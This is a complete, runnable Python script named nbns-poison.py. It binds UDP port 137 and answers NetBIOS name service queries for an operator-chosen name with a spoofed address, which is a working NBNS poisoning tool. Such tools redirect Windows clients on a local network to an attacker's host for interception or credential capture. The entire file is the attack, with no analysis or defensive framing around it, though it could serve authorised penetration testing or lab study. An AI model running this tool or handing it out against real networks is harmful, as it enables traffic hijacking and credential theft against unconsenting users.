#!/usr/bin/python3
"""Answers NetBIOS name queries (RFC 1002 4.2.13) for a name with an address that does not belong to it: nbns-poison.py NAME ADDRESS"""
import os
import socket
import struct
import sys

name, address = sys.argv[1].upper().ljust(15), socket.inet_aton(sys.argv[2])
encoded = b"".join(bytes([0x41 + (ord(letter) >> 4), 0x41 + (ord(letter) & 15)]) for letter in name)
open("/run/nbns-poison.pid", "w").write(str(os.getpid()))
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
server.bind(("", 137))
while True:
    question, asker = server.recvfrom(1024)
    # a query, and for this name whatever its suffix
    if question[2] & 0xF8 or encoded not in question:
        continue
    asked = question[12 : question.index(b"\0", 12) + 1]
    server.sendto(question[:2] + struct.pack(">5H", 0x8500, 0, 1, 0, 0) + asked + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + address, asker)
